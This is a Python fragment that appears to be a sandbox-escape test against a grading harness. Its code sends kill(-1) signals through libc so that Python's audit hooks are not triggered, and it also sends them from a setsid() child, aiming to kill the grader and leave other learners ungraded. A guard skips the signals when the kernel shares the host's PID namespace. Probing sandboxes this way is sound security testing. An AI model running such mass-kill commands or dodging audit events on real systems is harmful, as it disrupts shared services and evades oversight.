"""kill(-1, SIGKILL), then SIGHUP and SIGTERM to -1, through libc (no os.kill audit event), from
the kernel and from a setsid()ed child: every process the kernel's uid may signal.

SAFETY: when the kernel shares the test's PID namespace the signals are NOT sent (they would kill
this machine's session); the attack reports that it could have.
Got out: the grader dies or stops grading (other learners ungraded), or the guard trips.
"""
if _host_pidns():
    _got_out("kernel runs in the grading machine's PID namespace: kill(-1) would reach the grader")
else:
    libc = _libc()
    print(_py("import ctypes, os\nos.setsid()\nlibc = ctypes.CDLL(None)\n"
              "for s in (1, 15, 9):\n    print(s, libc.kill(-1, s))"))
    for sig in (1, 15, 9):
        print(sig, libc.kill(-1, sig))
